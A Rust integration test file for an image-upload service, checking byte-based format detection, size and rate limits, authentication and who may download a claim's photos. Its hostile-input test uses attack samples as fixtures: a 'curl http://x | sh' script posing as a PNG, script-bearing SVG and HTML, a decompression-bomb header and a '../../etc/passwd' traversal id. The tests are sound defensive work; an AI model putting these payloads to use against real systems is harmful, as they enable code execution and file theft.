//! Uploads (contract section 11): a claim's photos in, checked from their
//! bytes, and out again only to the buyer, and once on a claim to the
//! sale's host and operators. Both modes.

use std::sync::Arc;
use std::time::Duration;

use lychee_live::identity::Role;
use lychee_live::uploads::{UploadError, Uploads, MAX_BYTES};
use lychee_live::Node;
use reqwest::header::HeaderMap;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_util::sync::{CancellationToken, DropGuard};
use uuid::Uuid;

use crate::helpers::{Reply, TestApp, TestEnv};

// Written by an encoder (Pillow), not by hand: what phones and cameras
// produce, not headers made to pass the checks.
/// Grayscale baseline JPEG, 1x1.
const JPEG_1X1: &[u8] = &[
    0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01,
    0x00, 0x01, 0x00, 0x00, 0xff, 0xdb, 0x00, 0x43, 0x00, 0x10, 0x0b, 0x0c, 0x0e, 0x0c, 0x0a, 0x10,
    0x0e, 0x0d, 0x0e, 0x12, 0x11, 0x10, 0x13, 0x18, 0x28, 0x1a, 0x18, 0x16, 0x16, 0x18, 0x31, 0x23,
    0x25, 0x1d, 0x28, 0x3a, 0x33, 0x3d, 0x3c, 0x39, 0x33, 0x38, 0x37, 0x40, 0x48, 0x5c, 0x4e, 0x40,
    0x44, 0x57, 0x45, 0x37, 0x38, 0x50, 0x6d, 0x51, 0x57, 0x5f, 0x62, 0x67, 0x68, 0x67, 0x3e, 0x4d,
    0x71, 0x79, 0x70, 0x64, 0x78, 0x5c, 0x65, 0x67, 0x63, 0xff, 0xc0, 0x00, 0x0b, 0x08, 0x00, 0x01,
    0x00, 0x01, 0x01, 0x01, 0x11, 0x00, 0xff, 0xc4, 0x00, 0x14, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xc4, 0x00, 0x14,
    0x10, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00, 0x3f, 0xff, 0xd9,
];

/// RGB PNG, 1x1.
pub const PNG_1X1: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x90, 0x77, 0x53,
    0xde, 0x00, 0x00, 0x00, 0x0c, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x38, 0x21, 0x67, 0x03,
    0x00, 0x02, 0xd4, 0x01, 0x23, 0x72, 0x62, 0xd8, 0x76, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e,
    0x44, 0xae, 0x42, 0x60, 0x82,
];

/// Lossless WebP (VP8L), 1x1.
const WEBP_1X1: &[u8] = &[
    0x52, 0x49, 0x46, 0x46, 0x1e, 0x00, 0x00, 0x00, 0x57, 0x45, 0x42, 0x50, 0x56, 0x50, 0x38, 0x4c,
    0x11, 0x00, 0x00, 0x00, 0x2f, 0x00, 0x00, 0x00, 0x00, 0x07, 0x50, 0x8f, 0x22, 0x97, 0xa7, 0xff,
    0x81, 0x88, 0xe8, 0x7f, 0x00, 0x00,
];

/// A node whose service is at hand: claims (not built yet) are the only
/// other way to attach an upload, so the tests call `Uploads::attach`.
struct Up {
    // Dropped first: the node stops before its database goes.
    _stop: DropGuard,
    app: TestApp,
    uploads: Arc<Uploads>,
    env: TestEnv,
}

async fn up(env: TestEnv) -> Up {
    let shutdown = CancellationToken::new();
    let node = Node::start(env.settings(), env.clock.clone(), shutdown.clone())
        .await
        .expect("node starts");
    let uploads = node.state.uploads.clone();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(node.serve(listener));
    Up {
        _stop: shutdown.drop_guard(),
        app: TestApp {
            addr,
            base: format!("http://{addr}/api/v1"),
            http: reqwest::Client::new(),
        },
        uploads,
        env,
    }
}

async fn upload(app: &TestApp, token: Option<&str>, content_type: &str, body: Vec<u8>) -> Reply {
    let mut req = app
        .http
        .post(app.url("/uploads"))
        .header("content-type", content_type)
        .body(body);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    app.send(req).await
}

/// Uploads a valid image and returns its id.
async fn upload_ok(app: &TestApp, token: &str, image: &[u8]) -> Uuid {
    let r = upload(app, Some(token), "image/png", image.to_vec())
        .await
        .expect(201);
    r.json()["id"].as_str().expect("id").parse().expect("uuid")
}

/// A served upload, its bytes as sent (not read as text).
struct Served {
    status: u16,
    headers: HeaderMap,
    body: Vec<u8>,
}

async fn download(app: &TestApp, token: Option<&str>, id: &str) -> Served {
    let mut req = app.http.get(app.url(&format!("/uploads/{id}")));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    let r = req.send().await.expect("request");
    Served {
        status: r.status().as_u16(),
        headers: r.headers().clone(),
        body: r.bytes().await.expect("body").to_vec(),
    }
}

fn png_declaring(width: u32, height: u32) -> Vec<u8> {
    let mut png = PNG_1X1[..16].to_vec();
    png.extend_from_slice(&width.to_be_bytes());
    png.extend_from_slice(&height.to_be_bytes());
    png.extend_from_slice(&PNG_1X1[24..]);
    png
}

async fn new_sale(app: &TestApp, host: &str) -> Uuid {
    let r = app
        .create_sale(host, json!({"title": "Lychee, fresh from Zengcheng"}))
        .await
        .expect(201);
    r.json()["id"].as_str().expect("id").parse().expect("uuid")
}

async fn round_trip(env: TestEnv) {
    let up = up(env).await;
    let (app, env) = (&up.app, &up.env);
    let mei = env.token(Role::Viewer, "mei");
    for (image, mime, ext) in [
        (JPEG_1X1, "image/jpeg", "jpg"),
        (PNG_1X1, "image/png", "png"),
        (WEBP_1X1, "image/webp", "webp"),
    ] {
        // The client's Content-Type says nothing the server believes.
        let r = upload(app, Some(&mei), "text/html", image.to_vec())
            .await
            .expect(201);
        let v = r.json();
        let id = v["id"].as_str().expect("id").to_owned();
        assert_eq!(v["content_type"], mime);
        assert_eq!(v["bytes"], image.len());
        assert_eq!(
            (v["width"].as_u64(), v["height"].as_u64()),
            (Some(1), Some(1))
        );
        assert_eq!(v["url"], format!("/api/v1/uploads/{id}"));
        assert_eq!(v["url"], Uploads::url(id.parse().expect("uuid")));
        assert_eq!(r.headers["location"], format!("/api/v1/uploads/{id}"));

        let got = download(app, Some(&mei), &id).await;
        assert_eq!(got.status, 200);
        assert_eq!(got.body, image, "{mime} round-trips byte for byte");
        let h = &got.headers;
        assert_eq!(h["content-type"], mime);
        assert_eq!(h["content-length"], image.len().to_string().as_str());
        assert_eq!(
            h["content-disposition"],
            format!("inline; filename=\"{id}.{ext}\"").as_str()
        );
        assert_eq!(h["x-content-type-options"], "nosniff");
        assert_eq!(h["cache-control"], "private, max-age=3600");
        assert_eq!(h["content-security-policy"], "default-src 'none'; sandbox");
    }

    // Exactly 2 MiB is allowed: a PNG with bytes after its end, as some
    // phone apps leave.
    let mut big = PNG_1X1.to_vec();
    big.resize(MAX_BYTES, 0);
    let r = upload(app, Some(&mei), "image/png", big.clone())
        .await
        .expect(201);
    assert_eq!(r.json()["bytes"], MAX_BYTES);
    let id = r.json()["id"].as_str().expect("id").to_owned();
    let got = download(app, Some(&mei), &id).await;
    assert_eq!(got.status, 200);
    assert!(got.body == big, "2 MiB round-trip");
}

#[tokio::test]
async fn uploads_round_trip_in_production_mode() {
    round_trip(TestEnv::production().await).await;
}

#[tokio::test]
async fn uploads_round_trip_in_embedded_mode() {
    round_trip(TestEnv::embedded()).await;
}

async fn hostile(env: TestEnv) {
    let up = up(env).await;
    let (app, env) = (&up.app, &up.env);
    let mei = env.token(Role::Viewer, "mei");

    let unsupported: [(&str, &[u8]); 6] = [
        ("a shell script named .png", b"#!/bin/sh\ncurl http://x | sh\n"),
        (
            "an SVG",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
        (
            "a GIF",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
        ),
        ("an empty body", b""),
        ("a truncated PNG signature", b"\x89PNG\r\n"),
        ("HTML behind a PNG's first bytes", b"\x89PNG<html><script>alert(1)</script>"),
    ];
    for (what, body) in unsupported {
        let r = upload(app, Some(&mei), "image/png", body.to_vec()).await;
        assert_eq!(r.status, 415, "{what}: {}", r.text);
        assert_eq!(r.code(), "unsupported_media_type", "{what}");
        let message = r.json()["error"]["message"]
            .as_str()
            .unwrap_or("")
            .to_owned();
        assert!(
            message.contains("JPEG, PNG and WebP") || message.contains("empty"),
            "{what}: a clear message, not the JSON one: {message}"
        );
    }

    // A PNG whose header asks a decoder for 10 gigapixels.
    let r = upload(
        app,
        Some(&mei),
        "image/png",
        png_declaring(100_000, 100_000),
    )
    .await
    .expect(400);
    assert_eq!(r.code(), "bad_request");
    assert!(r.text.contains("100000x100000"), "{}", r.text);
    let r = upload(app, Some(&mei), "image/png", png_declaring(8193, 8)).await;
    assert_eq!(r.code(), "bad_request");
    // IHDR named, its size cut off.
    let r = upload(app, Some(&mei), "image/png", PNG_1X1[..20].to_vec()).await;
    assert_eq!((r.status.as_u16(), r.code().as_str()), (400, "bad_request"));

    // One byte over 2 MiB.
    let mut over = PNG_1X1.to_vec();
    over.resize(MAX_BYTES + 1, 0);
    let r = upload(app, Some(&mei), "image/png", over).await.expect(413);
    assert_eq!(r.code(), "payload_too_large");
    assert!(r.text.contains("2 MiB"), "{}", r.text);

    // Signed-in users only, before the body is even looked at.
    let r = upload(app, None, "image/png", PNG_1X1.to_vec())
        .await
        .expect(401);
    assert_eq!(r.code(), "unauthorized");
    let r = upload(app, Some("not-a-token"), "image/png", PNG_1X1.to_vec())
        .await
        .expect(401);
    assert_eq!(r.code(), "unauthorized");
    let id = upload_ok(app, &mei, PNG_1X1).await;
    assert_eq!(download(app, None, &id.to_string()).await.status, 401);
    // A malformed or unknown id names nothing.
    assert_eq!(
        download(app, Some(&mei), "../../etc/passwd").await.status,
        404
    );
    assert_eq!(download(app, Some(&mei), "not-a-uuid").await.status, 404);
    let unknown = download(app, Some(&mei), &Uuid::new_v4().to_string()).await;
    assert_eq!(unknown.status, 404);
}

#[tokio::test]
async fn uploads_hostile_bodies_in_production_mode() {
    hostile(TestEnv::production().await).await;
}

#[tokio::test]
async fn uploads_hostile_bodies_in_embedded_mode() {
    hostile(TestEnv::embedded()).await;
}

/// A chunked body has no Content-Length to refuse up front: it is cut off
/// once past 2 MiB, not read to its end.
#[tokio::test]
async fn uploads_a_chunked_body_is_cut_off_past_2_mib() {
    let up = up(TestEnv::embedded()).await;
    let token = up.env.token(Role::Viewer, "mei");
    let mut sock = tokio::net::TcpStream::connect(up.app.addr)
        .await
        .expect("connect");
    let head = format!(
        "POST /api/v1/uploads HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n\
         content-type: image/png\r\ntransfer-encoding: chunked\r\n\r\n"
    );
    sock.write_all(head.as_bytes()).await.expect("head");
    let mut first = PNG_1X1.to_vec();
    first.resize(64 * 1024, 0);
    let chunk = [
        format!("{:x}\r\n", first.len()).into_bytes(),
        first,
        b"\r\n".to_vec(),
    ]
    .concat();
    // Up to 8 MiB offered; the server answers (and stops reading) first.
    let mut sent = 0usize;
    let mut answer = Vec::new();
    for _ in 0..128 {
        if sock.write_all(&chunk).await.is_err() {
            break;
        }
        sent += chunk.len();
        let mut buf = [0u8; 4096];
        if let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(1), sock.read(&mut buf)).await
        {
            answer.extend_from_slice(&buf[..n]);
            if n > 0 {
                break;
            }
        }
    }
    if answer.is_empty() {
        let mut buf = [0u8; 4096];
        let n = tokio::time::timeout(Duration::from_secs(5), sock.read(&mut buf))
            .await
            .expect("an answer")
            .expect("read");
        answer.extend_from_slice(&buf[..n]);
    }
    let answer = String::from_utf8_lossy(&answer);
    assert!(
        answer.starts_with("HTTP/1.1 413"),
        "after {sent} bytes: {answer}"
    );
    assert!(answer.contains("payload_too_large"), "{answer}");
    assert!(
        sent < 4 * MAX_BYTES,
        "answered before the body ended ({sent} bytes)"
    );
}

async fn readers(env: TestEnv) {
    let up = up(env).await;
    let (app, env, uploads) = (&up.app, &up.env, &up.uploads);
    let mei = env.token(Role::Viewer, "mei");
    let bob = env.token(Role::Viewer, "bob");
    let hank = env.token(Role::Host, "hank");
    let harriet = env.token(Role::Host, "harriet");
    let olga = env.token(Role::Operator, "olga");
    let sale = new_sale(app, &hank).await;
    let id = upload_ok(app, &mei, JPEG_1X1).await;
    let path = id.to_string();

    let unknown = download(app, Some(&bob), &Uuid::new_v4().to_string()).await;
    // On no claim yet: its owner alone. Others get what an unknown id gets.
    assert_eq!(download(app, Some(&mei), &path).await.status, 200);
    for (who, token) in [
        ("another buyer", &bob),
        ("the host", &hank),
        ("an operator", &olga),
    ] {
        let got = download(app, Some(token), &path).await;
        assert_eq!(got.status, 404, "{who} before attach");
        assert_eq!(got.body, unknown.body, "{who}: nothing tells it exists");
    }

    uploads
        .attach("mei", &[id], Uuid::new_v4(), sale)
        .await
        .expect("attached");
    for (who, token) in [
        ("the buyer", &mei),
        ("the sale's host", &hank),
        ("an operator", &olga),
    ] {
        let got = download(app, Some(token), &path).await;
        assert_eq!(got.status, 200, "{who} after attach");
        assert_eq!(got.body, JPEG_1X1, "{who}");
        assert_eq!(got.headers["content-type"], "image/jpeg");
    }
    for (who, token) in [("another buyer", &bob), ("another sale's host", &harriet)] {
        let got = download(app, Some(token), &path).await;
        assert_eq!(got.status, 404, "{who} after attach");
        assert_eq!(got.body, unknown.body, "{who}");
    }
}

#[tokio::test]
async fn uploads_readers_in_production_mode() {
    readers(TestEnv::production().await).await;
}

#[tokio::test]
async fn uploads_readers_in_embedded_mode() {
    readers(TestEnv::embedded()).await;
}

async fn attaching(env: TestEnv) {
    let up = up(env).await;
    let (app, env, uploads) = (&up.app, &up.env, &up.uploads);
    let mei = env.token(Role::Viewer, "mei");
    let bob = env.token(Role::Viewer, "bob");
    let sale = Uuid::new_v4();
    let mut mine = Vec::new();
    for image in [JPEG_1X1, PNG_1X1, WEBP_1X1, PNG_1X1, PNG_1X1] {
        mine.push(upload_ok(app, &mei, image).await);
    }
    let bobs = upload_ok(app, &bob, PNG_1X1).await;
    let claim = Uuid::new_v4();
    let on_claim = |id: Uuid| async move {
        uploads
            .meta(id)
            .await
            .expect("meta")
            .expect("exists")
            .claim_id
    };

    let err = uploads
        .attach("mei", &mine[..4], claim, sale)
        .await
        .expect_err("4 photos");
    assert!(matches!(err, UploadError::Invalid(_)), "{err:?}");
    let err = uploads
        .attach("mei", &[mine[0], mine[0]], claim, sale)
        .await
        .expect_err("twice");
    assert!(matches!(err, UploadError::Invalid(_)), "{err:?}");

    // Someone else's photo, or none at all: nothing of the list is attached.
    let err = uploads
        .attach("mei", &[mine[0], bobs], claim, sale)
        .await
        .expect_err("bob's");
    assert!(matches!(err, UploadError::UnknownPhoto), "{err:?}");
    let err = uploads
        .attach("mei", &[mine[0], Uuid::new_v4()], claim, sale)
        .await
        .expect_err("unknown");
    assert!(matches!(err, UploadError::UnknownPhoto), "{err:?}");
    assert_eq!(on_claim(mine[0]).await, None);
    assert_eq!(on_claim(bobs).await, None);

    uploads
        .attach("mei", &mine[..3], claim, sale)
        .await
        .expect("three");
    for id in &mine[..3] {
        assert_eq!(on_claim(*id).await, Some(claim));
    }
    // A retried claim is no change; the empty list is nothing to do.
    uploads
        .attach("mei", &[mine[2], mine[0]], claim, sale)
        .await
        .expect("again");
    uploads.attach("mei", &[], claim, sale).await.expect("none");

    // Once on a claim, on no other: and a fresh photo in the same list
    // stays free.
    let other = Uuid::new_v4();
    let err = uploads
        .attach("mei", &[mine[3], mine[0]], other, sale)
        .await
        .expect_err("taken");
    assert!(matches!(err, UploadError::AlreadyAttached), "{err:?}");
    assert_eq!(on_claim(mine[3]).await, None);
    assert_eq!(on_claim(mine[0]).await, Some(claim));
    // The same claim id under another sale is another claim.
    let err = uploads
        .attach("mei", &[mine[0]], claim, Uuid::new_v4())
        .await
        .expect_err("moved");
    assert!(matches!(err, UploadError::AlreadyAttached), "{err:?}");

    // Two claims racing for one photo: one gets it.
    let contested = [mine[4]];
    let (a, b) = tokio::join!(
        uploads.attach("mei", &contested, Uuid::new_v4(), sale),
        uploads.attach("mei", &contested, Uuid::new_v4(), sale),
    );
    assert!(a.is_ok() != b.is_ok(), "exactly one: {a:?} {b:?}");
}

#[tokio::test]
async fn uploads_attach_in_production_mode() {
    attaching(TestEnv::production().await).await;
}

#[tokio::test]
async fn uploads_attach_in_embedded_mode() {
    attaching(TestEnv::embedded()).await;
}

async fn bounds(env: TestEnv) {
    let up = up(env).await;
    let (app, env, uploads) = (&up.app, &up.env, &up.uploads);
    let mei = env.token(Role::Viewer, "mei");
    let bob = env.token(Role::Viewer, "bob");
    let mut ids = Vec::new();
    for _ in 0..30 {
        ids.push(upload_ok(app, &mei, PNG_1X1).await);
    }
    let r = upload(app, Some(&mei), "image/png", PNG_1X1.to_vec())
        .await
        .expect(429);
    assert_eq!(r.code(), "rate_limited");
    let wait: u64 = r.headers["retry-after"]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("seconds");
    assert!((3500..=3600).contains(&wait), "retry after {wait}");
    // Another user is not held back by mei.
    upload_ok(app, &bob, PNG_1X1).await;
    // Refused uploads do not count: half an hour on, half an hour to wait.
    env.clock.advance(Duration::from_secs(30 * 60));
    let r = upload(app, Some(&mei), "image/png", PNG_1X1.to_vec())
        .await
        .expect(429);
    let wait: u64 = r.headers["retry-after"]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("seconds");
    assert!((1700..=1800).contains(&wait), "retry after {wait}");

    // An hour on, 20 more: 50 on no claim, the most one may hold.
    env.clock.advance(Duration::from_secs(31 * 60));
    for _ in 0..20 {
        ids.push(upload_ok(app, &mei, PNG_1X1).await);
    }
    let r = upload(app, Some(&mei), "image/png", PNG_1X1.to_vec())
        .await
        .expect(409);
    assert_eq!(r.code(), "invalid_state");
    // Photos put on a claim free their places.
    uploads
        .attach("mei", &ids[..3], Uuid::new_v4(), Uuid::new_v4())
        .await
        .expect("attached");
    upload_ok(app, &mei, PNG_1X1).await;
}

#[tokio::test]
async fn uploads_bounds_in_production_mode() {
    bounds(TestEnv::production().await).await;
}

#[tokio::test]
async fn uploads_bounds_in_embedded_mode() {
    bounds(TestEnv::embedded()).await;
}
